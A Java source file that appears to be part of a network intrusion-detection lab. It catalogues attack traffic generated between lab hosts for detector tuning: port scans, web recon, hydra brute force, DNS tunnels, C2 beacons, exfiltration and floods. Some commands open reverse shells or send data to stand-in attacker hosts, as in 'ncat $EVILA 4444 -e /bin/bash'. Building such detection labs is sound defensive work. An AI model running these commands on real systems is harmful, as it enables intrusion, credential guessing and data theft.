package dev.weir.standalone.lab;

import static dev.weir.standalone.lab.AttackScripts.SINK;
import static dev.weir.standalone.lab.AttackScripts.WORDS;
import static dev.weir.standalone.lab.AttackScripts.attempts;
import static dev.weir.standalone.lab.AttackScripts.beacon;
import static dev.weir.standalone.lab.AttackScripts.httpEnd;
import static dev.weir.standalone.lab.AttackScripts.sshEnd;
import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
import static dev.weir.standalone.lab.LabHost.API;
import static dev.weir.standalone.lab.LabHost.BASTION;
import static dev.weir.standalone.lab.LabHost.CI;
import static dev.weir.standalone.lab.LabHost.DB;
import static dev.weir.standalone.lab.LabHost.EVILA;
import static dev.weir.standalone.lab.LabHost.EVILB;
import static dev.weir.standalone.lab.LabHost.JOB;
import static dev.weir.standalone.lab.LabHost.NEW;
import static dev.weir.standalone.lab.LabHost.OPS;
import static dev.weir.standalone.lab.LabHost.ORDERS;
import static dev.weir.standalone.lab.LabHost.SCANNER;
import static dev.weir.standalone.lab.LabHost.SENSOR;
import static dev.weir.standalone.lab.LabHost.USERC;
import static dev.weir.standalone.lab.LabHost.WEB;
import static dev.weir.standalone.lab.LabHost.WEBB;

import dev.weir.standalone.lab.LabAttack.Listener;

/** The attacks that detectors are tuned on; {@link JudgingAttacks} are by other tools and configurations. */
final class LabAttacks extends AttackCatalogue {
    LabAttacks() {
        super(false);
    }

    @Override
    void scans() {
        add("scan-nmap-fast", "nmap", JOB, 1, "nmap -n -Pn -sS -F -T4 $DB");
        add("scan-nmap-slow", "nmap", WEB, 50, "nmap -n -Pn -sT -p 1-120 --scan-delay 300ms --max-retries 0 $CACHE");
        add("scan-nmap-horizontal", "nmap", CI, 1, "nmap -n -Pn -sS -p 22,3389 -T4 --max-retries 1 10.60.8.0/26");
        add("scan-nmap-refused", "nmap", SENSOR, 1, "nmap -n -Pn -sT -p 445 -T4 10.60.7.0/25");
        add("scan-nmap-udp", "nmap", API, 1, "nmap -n -Pn -sU --top-ports 40 -T4 --max-retries 1 $WEB");
        add(
                "scan-nmap-version",
                "nmap",
                NEW,
                1,
                "nmap -n -Pn -sV --version-light -p 21-25,80,443,3306,5432,6379 $WEBB");
        add("scan-nmap-outside", "nmap", SCANNER, 1, "nmap -n -Pn -sS -p 1-300 -T4 $WEB");
        add("scan-nmap-ping", "nmap", ORDERS, 1, "nmap -n -sn -PE --disable-arp-ping 10.60.7.0/26 10.60.8.0/27");
        add("scan-hping-vertical", "hping3", ORDERS, 1, "hping3 -n --scan 1-150 -S $CACHE");
        add(
                "scan-ncat-slow",
                "ncat",
                CI,
                60,
                "for p in $(seq 20 95); do timeout 1 ncat -z -w 300ms $DB $p; sleep 0.3; done");
        add(
                "scan-bash-horizontal",
                "bash",
                JOB,
                1,
                "for i in $(seq 1 60); do timeout 0.2 bash -c \"</dev/tcp/10.60.8.$i/5432\"; done");
        add(
                "scan-curl-refused",
                "curl",
                API,
                1,
                "for i in $(seq 1 70); do curl -s -m 0.3 http://10.60.7.$i:9200/; sleep 0.05; done");
        add("scan-hping-udp", "hping3", WEB, 1, "for p in $(seq 100 160); do hping3 -n -q -2 -c 1 -p $p $ORDERS; done");
        add(
                "scan-ncat-outside",
                "ncat",
                EVILB,
                1,
                "for p in $(seq 1 120); do timeout 1 ncat -z -w 300ms $WEBB $p; done");
        add(
                "scan-curl-new",
                "curl",
                NEW,
                1,
                "for h in $WEB $WEBB $API $DB $CACHE $BROKER; do for p in 22 80 443 3306 5432 6379 8080 9090 9200; do curl -s"
                        + " -m 0.4 telnet://$h:$p </dev/null; done; done");
        add(
                "scan-hping-ping",
                "hping3",
                SENSOR,
                1,
                "for i in $(seq 1 60); do timeout 0.2 hping3 -n -q -1 -c 1 10.60.8.$i; done");
        add(
                "scan-bash-day",
                "bash",
                OPS,
                600,
                "for p in $(seq 1000 1060); do timeout 0.3 bash -c \"</dev/tcp/$API/$p\"; sleep 0.5; done");
    }

    @Override
    void webScans() {
        add(
                "http-recon-ffuf",
                "ffuf",
                NEW,
                1,
                WORDS.formatted(400) + "ffuf -s -t 10 -u http://$WEB/FUZZ -w $FOLDER/words-$$");
        add(
                "http-recon-ffuf-slow",
                "ffuf",
                USERC,
                30,
                WORDS.formatted(100) + "ffuf -s -t 1 -p 0.25 -u http://$WEBB/FUZZ -w $FOLDER/words-$$");
        add(
                "http-recon-gobuster",
                "gobuster",
                JOB,
                1,
                WORDS.formatted(400) + "gobuster dir -q -t 8 -u http://$API:8080 -w $FOLDER/words-$$");
        add(
                "http-recon-dirb",
                "dirb",
                EVILA,
                5,
                WORDS.formatted(150) + "dirb http://$WEB $FOLDER/words-$$ -S -r -z 50");
        add(
                "http-recon-curl",
                "curl",
                CI,
                10,
                "for i in $(seq 150); do curl -s -o /dev/null http://$WEBB:8080/old/$i.bak; sleep 0.05; done");
    }

    @Override
    void logins() {
        String passwords = "for i in $(seq %d); do echo guess$i; done > $FOLDER/guesses-$$\n";
        add(
                "bruteforce-hydra-ssh",
                "hydra",
                JOB,
                2,
                passwords.formatted(60) + "timeout 50 hydra -q -t 4 -l root -P $FOLDER/guesses-$$ ssh://$BASTION");
        add(
                "bruteforce-hydra-postgres",
                "hydra",
                SENSOR,
                1,
                passwords.formatted(80) + "timeout 50 hydra -q -t 4 -l postgres -P $FOLDER/guesses-$$ postgres://$DB");
        add(
                "bruteforce-hydra-http",
                "hydra",
                SCANNER,
                1,
                passwords.formatted(200)
                        + "timeout 50 hydra -q -t 8 -l admin -P $FOLDER/guesses-$$ http-get://$WEB/admin/");
        add(
                "bruteforce-medusa-ssh",
                "medusa",
                CI,
                3,
                passwords.formatted(40) + "timeout 50 medusa -h $API -u root -P $FOLDER/guesses-$$ -M ssh -t 2");
        add(
                "bruteforce-sshpass-slow",
                "sshpass",
                NEW,
                30,
                "for i in $(seq 25); do timeout 5 sshpass -p guess$i ssh -o PubkeyAuthentication=no"
                        + " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@$ORDERS true; sleep 0.5; done");
        add(
                "bruteforce-psql",
                "psql",
                API,
                1,
                "for i in $(seq 80); do PGPASSWORD=guess$i psql -q -h $DB -U admin -c '' postgres; done");
        add(
                "bruteforce-curl",
                "curl",
                EVILA,
                1,
                "for i in $(seq 150); do curl -s -o /dev/null -u admin:guess$i http://$WEBB/admin/; done");
    }

    @Override
    void tunnels() {
        add(
                "dns-tunnel-iodine",
                "iodine",
                JOB,
                10,
                """
                timeout 25 iodine -f -r -I 1 -P secret -d dnsc $DNS tunnel.example & sleep 5
                ping -c 15 -i 0.3 -s 400 10.99.0.1; for i in $(seq 40); do ncat --send-only -w 1 10.99.0.1 99 </dev/null; done
                wait
                """,
                new Listener(EVILA, "exec iodined -f -c -P secret -d dnss 10.99.0.1/24 tunnel.example"));
        add("dns-tunnel-dns2tcp", "dns2tcpc", CI, 10, """
                timeout 25 dns2tcpc -z relay.example -k secret -r shell -l 2222 $DNS & sleep 2
                for i in $(seq 8); do head -c 1500 /dev/urandom | timeout 4 ncat 127.0.0.1 2222; done
                wait
                """, new Listener(EVILB, """
                        printf 'listen = %s\\nport = 53\\nuser = root\\nchroot = /tmp\\ndomain = relay.example\\nkey = secret\\n\
                        resources = shell:127.0.0.1:7777\\n' $EVILB > $FOLDER/dns2tcpd.conf
                        socat tcp-listen:7777,fork,reuseaddr system:'head -c 3000 /dev/urandom' &
                        exec dns2tcpd -F -f $FOLDER/dns2tcpd.conf
                        """));
        add(
                "dns-tunnel-dig",
                "dig",
                SENSOR,
                20,
                "for i in $(seq 120); do dig +short +tries=1 +time=1 @$DNS TXT $(head -c 40 /dev/urandom | base32 -w 60 | head -1"
                        + " | tr -d =).x$i.tunnel.example; sleep 0.1; done");
    }

    @Override
    void channels() {
        add(
                "c2-ncat-shell",
                "ncat",
                JOB,
                20,
                "timeout 40 ncat $EVILA 4444 -e /bin/bash",
                new Listener(
                        EVILA,
                        "(for i in $(seq 25); do sleep 1.$((RANDOM % 9)); echo 'id; ls /'; done; echo exit)"
                                + " | ncat -l $EVILA 4444"));
        add("c2-beacon-even", "curl", CI, 60, beacon("https://$EVILA:443/", 80, 1_000, 0), tlsEnd(EVILA, 443));
        add("c2-beacon-jitter", "curl", SENSOR, 60, beacon("https://$EVILB:8443/", 80, 800, 50), tlsEnd(EVILB, 8443));
        add("c2-dead-refused", "ncat", ORDERS, 20, attempts("$EVILA", 1_177, 110, 500, 5));
        add("c2-dead-silent", "ncat", API, 30, attempts("10.60.8.77", 8_081, 70, 600, 20));
        add("c2-inside-even", "curl", WEBB, 60, beacon("http://$NEW:9001/", 80, 700, 10), httpEnd(NEW, 9_001));
        add(
                "c2-socat-shell",
                "socat",
                SENSOR,
                30,
                "timeout 40 socat tcp:$EVILB:9443 exec:/bin/sh",
                new Listener(
                        EVILB,
                        "(for i in $(seq 20); do sleep $((RANDOM % 3 + 1)); echo 'uname -a; ps'; done; echo exit)"
                                + " | socat - tcp-listen:9443,reuseaddr"));
        add(
                "c2-bash-beacon",
                "bash",
                JOB,
                60,
                """
                for i in $(seq 75); do
                  timeout 1 bash -c "exec 3<>/dev/tcp/$EVILB/443; echo ping >&3; read -t 1 x <&3"
                  sleep 0.$((650 + RANDOM % 300))
                done
                """,
                new Listener(EVILB, "exec ncat -lk $EVILB 443 -c 'read x; echo pong'"));
        add("c2-wide-jitter", "curl", API, 60, beacon("http://$EVILA:80/feed", 80, 800, 60), httpEnd(EVILA, 80));
        add("c2-dead-bash", "bash", CI, 25, """
                for i in $(seq 150); do timeout 0.3 bash -c "</dev/tcp/$EVILB/6667"; sleep 0.$((300 + RANDOM % 150)); done
                """);
        add("c2-dead-curl", "curl", ORDERS, 40, """
                for i in $(seq 60); do curl -s -m 0.3 http://192.0.2.77:443/; sleep 0.6; done
                """);
        add(
                "c2-inside-ncat",
                "ncat",
                SENSOR,
                60,
                """
                for i in $(seq 75); do echo hello | timeout 1 ncat $NEW 7001; sleep 0.$((550 + RANDOM % 250)); done
                """,
                new Listener(NEW, "exec ncat -lk $NEW 7001 -c 'read x; echo pong'"));
        add("c2-lasting", "openssl", OPS, 60, """
                (for i in $(seq 30); do echo report $RANDOM; sleep 1; done) | timeout 45 openssl s_client -quiet -connect $EVILA:8443
                """, tlsEnd(EVILA, 8_443, "cat"));
    }

    @Override
    void transfers() {
        add(
                "exfil-curl-bulk",
                "curl",
                DB,
                1,
                "head -c 40000000 /dev/urandom | curl -sk -m 30 -T - https://$PAY:443/charge; head -c 60000000 /dev/urandom |"
                        + " timeout 30 ncat --send-only $EVILA 443",
                new Listener(EVILA, SINK.formatted(443)));
        add(
                "exfil-curl-drip",
                "ncat",
                API,
                60,
                "for i in $(seq 60); do head -c 900000 /dev/urandom | timeout 2 ncat --send-only $EVILB 443; sleep 0.5; done",
                new Listener(EVILB, SINK.formatted(443)));
        add(
                "exfil-psql-pull",
                "psql",
                JOB,
                1,
                "for i in 1 2 3 4; do psql -q -h $DB -U postgres -c '\\copy pgbench_accounts to /dev/null' postgres; done");
        add(
                "exfil-scp",
                "ssh",
                BASTION,
                1,
                "head -c 80000000 /dev/urandom > $FOLDER/loot; scp $SSH -P 22 $FOLDER/loot root@$EVILB:/dev/null",
                sshEnd(EVILB));
        add(
                "exfil-socat-drip",
                "socat",
                SENSOR,
                120,
                "for i in $(seq 45); do head -c 1200000 /dev/urandom | timeout 2 socat -u - tcp:$EVILA:8080; sleep 0.6; done",
                new Listener(EVILA, SINK.formatted(8_080)));
        add(
                "exfil-redis-pull",
                "redis-cli",
                CI,
                1,
                "for i in 1 2; do redis-cli -h $CACHE --rdb /dev/null; redis-cli -h $CACHE get loot | wc -c; done",
                new Listener(
                        LabHost.CACHE,
                        "head -c 60000000 /dev/urandom | redis-cli -h $CACHE -x set loot >/dev/null; sleep 60"));
        add(
                "exfil-rsync-pull",
                "rsync",
                NEW,
                1,
                "mkdir -p $FOLDER/stolen; rsync -a rsync://$BACKUP/vault/ $FOLDER/stolen/; rm -rf $FOLDER/stolen",
                new Listener(LabHost.BACKUP, "head -c 80000000 /dev/urandom > $FOLDER/vault/dump; sleep 60"));
    }

    @Override
    void floods() {
        add("ddos-hping-syn", "hping3", NEW, 1, "hping3 -n -q -S -c 8000 -i u300 -p 80 $WEB");
        add("ddos-ab-http", "ab", SCANNER, 1, "ab -q -n 4000 -c 40 http://$WEB/index.html");
        add("ddos-wrk-http", "wrk", EVILB, 1, "wrk -t 1 -c 60 -d 6s -H 'Connection: close' http://$WEBB/index.html");
        add(
                "ddos-ncat-udp",
                "socat",
                JOB,
                1,
                "head -c 12000000 /dev/zero | timeout 20 socat -u -b 1000 - udp-datagram:$CACHE:7000");
        add("ddos-bash-connect", "bash", API, 1, """
                for j in 1 2 3 4; do (for i in $(seq 600); do timeout 0.5 bash -c "</dev/tcp/$CACHE/6379"; done) & done; wait
                """);
    }

    @Override
    void lateral() {
        add("lateral-ssh-hop", "ssh", JOB, 20, """
                for h in $BASTION $API $ORDERS $WEBB; do
                  timeout 9 ssh $SSH root@$h 'for i in 1 2 3 4; do id; sleep 1; done'; sleep 1
                done
                """);
        add("lateral-scp-exec", "scp", SENSOR, 20, """
                for h in $API $ORDERS $WEBB $BASTION; do
                  scp $SSH $FOLDER/tls.crt root@$h:/dev/null; timeout 9 ssh $SSH root@$h 'sleep 2; uname -a'; sleep 1
                done
                """);
        add("lateral-pod-to-apiserver", "curl", NEW, 5, """
                for i in $(seq 25); do curl -sk https://$KAPI:6443/api/v1/secrets?$i; sleep 0.2; done
                """);
    }
}
